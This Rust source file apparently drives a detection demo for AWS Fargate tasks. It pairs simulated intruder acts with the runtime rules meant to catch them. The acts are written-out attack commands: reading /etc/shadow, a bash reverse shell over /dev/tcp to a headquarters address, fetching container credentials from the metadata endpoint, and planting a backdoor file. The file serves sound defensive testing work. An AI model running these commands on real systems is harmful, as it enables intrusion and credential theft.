//! What the intruder does, which rule must see it, and what the machine must offer for it.

use std::fs;
use std::path::Path;

use crate::config;
use crate::fargate::task::Task;

/// What this machine offers to an intruder.
#[derive(Clone, Debug)]
pub struct Ground {
    /// Containers, or at least namespaces of the task's own.
    is_private: bool,
    /// Real containers: files and programs are the image's.
    is_contained: bool,
    has_bash: bool,
    headquarters: String,
}

impl Ground {
    /// Looks around.
    pub fn look(task: &Task, is_contained: bool) -> Self {
        let is_private = !task
            .limits()
            .iter()
            .any(|limit| limit.contains("no namespaces"));
        Self {
            is_private,
            is_contained,
            has_bash: is_contained || config::find_program("bash").is_some(),
            headquarters: task.address_of(super::HEADQUARTERS).unwrap_or_default(),
        }
    }
}

/// One act.
#[derive(Debug)]
pub struct Act {
    /// What a person would say.
    pub title: &'static str,
    /// The rule that must match.
    pub rule: &'static str,
    /// What the shell inside the web server is told, or why it cannot be.
    pub script: Result<String, String>,
}

/// All acts, in order.
pub fn all(ground: &Ground) -> Vec<Act> {
    vec![
        Act {
            title: "runs a shell through the search form",
            rule: "Shell spawned by a server process",
            script: Ok("id".to_owned()),
        },
        Act {
            title: "reads a file with secrets",
            rule: "Sensitive file read",
            // A refused attempt is a finding too, so any user will do.
            script: Ok("cat /etc/shadow".to_owned()),
        },
        drop_and_run(ground),
        Act {
            title: "writes below a directory of programs",
            rule: "Write below a binary directory",
            script: private(ground, "/usr/local/sbin is the machine's own here")
                .map(|()| "echo backdoor >/usr/local/sbin/backdoor".to_owned()),
        },
        Act {
            title: "ties a shell to a socket",
            rule: "Standard stream tied to a socket",
            script: bash(ground).map(|()| {
                let address = ground.headquarters.replace(':', "/");
                format!("bash -c 'sh >&/dev/tcp/{address} 0>&1'")
            }),
        },
        Act {
            title: "asks for the task's credentials",
            rule: "Task credentials fetched by hand",
            script: bash(ground)
                .and_then(|()| private(ground, "169.254.170.2 needs a network namespace"))
                .map(|()| {
                    "bash -c 'exec 3<>/dev/tcp/169.254.170.2/80; \
                     printf \"GET $AWS_CONTAINER_CREDENTIALS_RELATIVE_URI HTTP/1.0\\r\\n\\r\\n\" >&3; \
                     cat <&3'"
                        .to_owned()
                }),
        },
    ]
}

/// Containers mount /dev/shm so that nothing runs from it; there it is /tmp.
fn drop_and_run(ground: &Ground) -> Act {
    let run = |directory: &str| {
        // A name of our own: without namespaces this is the machine's directory.
        let path = format!("{directory}/demo-{}", std::process::id());
        format!("cp /bin/true {path} && chmod 755 {path} && {path}; rm -f {path}")
    };
    if ground.is_contained {
        return Act {
            title: "drops a program into /tmp and runs it",
            rule: "Program run from a temporary directory",
            script: Ok(run("/tmp")),
        };
    }
    let is_noexec = || {
        let mounts = fs::read_to_string("/proc/mounts").unwrap_or_default();
        mounts
            .lines()
            .any(|line| line.contains(" /dev/shm ") && line.contains("noexec"))
    };
    let is_usable = ground.is_private || (Path::new("/dev/shm").is_dir() && !is_noexec());
    Act {
        title: "drops a program into /dev/shm and runs it",
        rule: "Program run from shared memory",
        script: if is_usable {
            Ok(run("/dev/shm"))
        } else {
            Err("/dev/shm takes no programs here".to_owned())
        },
    }
}

fn private(ground: &Ground, why: &str) -> Result<(), String> {
    if ground.is_private {
        Ok(())
    } else {
        Err(why.to_owned())
    }
}

fn bash(ground: &Ground) -> Result<(), String> {
    if ground.has_bash {
        Ok(())
    } else {
        Err("`bash` is not installed".to_owned())
    }
}
